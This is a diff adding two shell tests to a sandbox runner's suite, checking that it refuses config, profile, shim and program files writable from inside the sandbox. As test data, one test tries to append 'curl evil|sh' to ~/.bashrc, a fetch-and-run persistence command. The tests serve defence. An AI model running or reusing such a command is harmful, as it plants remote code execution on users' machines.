@@ -98,3 +98,53 @@ while True:
 	t=$(jq '.hooks.PreToolUse[0].hooks[0].timeout' "$P/.claude/settings.json")
 	[ "$t" -gt 5 ]
 }
+
+# ------------------------------------------------------------ CONF-02/04
+
+@test "CONF-02 a trusted conf naming a profile inside the project: refused, so the sandbox cannot weaken the next run" {
+	cp "$HOME/.bashrc" "$T/bashrc.before"
+	mkdir -p "$P/tools"
+	echo 'profile = "default";' > "$P/tools/sbx.conf"
+	echo "profile = \"$P/tools/sbx.conf\";" > "$P/.sbxrun.conf"
+	run "$SBXRUN" --trust
+	[ "$status" -eq 0 ]
+	# run 1 rewrites the profile, run 2 would use it
+	run xsbx -c 'printf "profile = \"default\";\npaths = ( { root = \"~/.bashrc\"; mode = \"rw\"; } );\n" > tools/sbx.conf'
+	[ "$status" -eq 125 ]
+	[[ "$output" == *"conf file '$P/tools/sbx.conf' would be writable inside the sandbox"*"keep conf and profile files outside"* ]]
+	[ "$(cat "$P/tools/sbx.conf")" = 'profile = "default";' ]
+	# the attack from outside, as if run 1 had got through: still refused
+	printf 'profile = "default";\npaths = ( { root = "~/.bashrc"; mode = "rw"; } );\n' > "$P/tools/sbx.conf"
+	run xsbx -c 'echo "curl evil|sh" >> "$HOME/.bashrc"'
+	[ "$status" -eq 125 ]
+	cmp "$T/bashrc.before" "$HOME/.bashrc"
+	# outside the writable paths it is honoured
+	mkdir -p "$T/prof" && cp "$SBX_TOP/profiles/strict.conf" "$T/prof/mine.conf"
+	echo "profile = \"$T/prof/mine.conf\";" > "$P/.sbxrun.conf"
+	"$SBXRUN" --trust
+	run xsbx -c 'touch x'
+	[ "$status" -ne 0 ]
+	[ ! -e "$P/x" ]
+}
+
+@test "CONF-04 a vendored sbxrun inside the project refuses to run (it could be rewritten from inside)" {
+	mkdir -p "$P/vendor"
+	cp "$SBXRUN" "$SBX_BUILD/libsbxshim.so" "$P/vendor/"
+	cp "$P/vendor/sbxrun" "$T/sbxrun.before"
+	run timeout 60 "$P/vendor/sbxrun" --mode "$SBX_MODE" -- "$SBX_SYS.static" write "$P/vendor/sbxrun" x
+	[ "$status" -eq 125 ]
+	[[ "$output" == *"sbxrun's own program '$P/vendor/sbxrun' would be writable inside the sandbox"*"install sbxrun outside"* ]]
+	cmp "$T/sbxrun.before" "$P/vendor/sbxrun"
+	# the shim alone inside
+	run env SBXRUN_SHIM="$P/vendor/libsbxshim.so" timeout 60 "$SBXRUN" --mode "$SBX_MODE" -- true
+	[ "$status" -eq 125 ]
+	[[ "$output" == *"sbxrun's shim '$P/vendor/libsbxshim.so' would be writable"* ]]
+	# profiles inside (a vendored share/sbxrun/profiles)
+	mkdir -p "$P/profiles" && cp "$SBX_TOP"/profiles/*.conf "$P/profiles/"
+	run env SBXRUN_PROFILE_DIR="$P/profiles" timeout 60 "$SBXRUN" --mode "$SBX_MODE" -- true
+	[ "$status" -eq 125 ]
+	[[ "$output" == *"conf file '$P/profiles/default.conf' would be writable"* ]]
+	# the same copy outside the writable paths runs
+	run timeout 60 "$SBXRUN" --mode "$SBX_MODE" -- true
+	[ "$status" -eq 0 ]
+}
